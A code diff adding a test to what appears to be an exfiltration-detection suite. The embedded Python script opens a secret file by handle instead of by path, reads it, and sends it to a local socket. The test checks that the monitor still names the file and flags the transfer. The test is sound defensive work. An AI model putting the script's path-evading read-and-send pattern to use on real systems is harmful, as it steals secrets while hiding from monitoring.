@@ -142,6 +142,35 @@ describe('live: read-then-transmit chains', () => {
     expect(f.chain[0]!.object).toBe(`${moved} (first named ${k})`);
   });
 
+  it('a file opened by a handle, with no path at all (name_to_handle_at + open_by_handle_at), read and sent: named from its descriptor', async () => {
+    const { k } = ownKey('by-handle');
+    const script = `
+import ctypes, os, socket
+libc = ctypes.CDLL(None, use_errno=True)
+class Handle(ctypes.Structure):
+    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 128)]
+h = Handle(); h.handle_bytes = 128
+mount_id = ctypes.c_int()
+if libc.name_to_handle_at(-100, b"${k}", ctypes.byref(h), ctypes.byref(mount_id), 0) != 0:
+    raise OSError(ctypes.get_errno(), "name_to_handle_at")
+mount_fd = os.open("${dir}", os.O_RDONLY)
+fd = libc.open_by_handle_at(mount_fd, ctypes.byref(h), os.O_RDONLY)
+if fd < 0:
+    raise OSError(ctypes.get_errno(), "open_by_handle_at")
+data = os.read(fd, 65536)
+s = socket.create_connection(("127.0.0.2", ${tcp.port})); s.sendall(data); s.close()
+`;
+    const r = await h.run('by-handle', `python3 -c '${script}'`);
+    expect(r.code, r.stderr).toBe(0);
+    // no open of the key by its path: only by the handle, which the probe reports with no path
+    expect(ofKind(r.events, 'file.open').filter((e) => e.path === k)).toEqual([]);
+    const open = ofKind(r.events, 'file.open').find((e) => e.syscall === 'open_by_handle_at');
+    expect(open).toMatchObject({ path: '', ret: expect.any(Number), real_path: k, abs: { real: k }, res: { ret: { path: k } } });
+    const f = only(r.findings.filter((x) => x.rule === 'exfil.read-then-transmit'));
+    expect(f.source).toMatchObject({ path: k, data_class: 'secret' });
+    expect(f.sink).toMatchObject({ address: '127.0.0.2', port: tcp.port });
+  });
+
   it('must not fire: a hard link of an ordinary file, sent', async () => {
     const d = join(dir, 'plain-link');
     mkdirSync(d, { recursive: true });
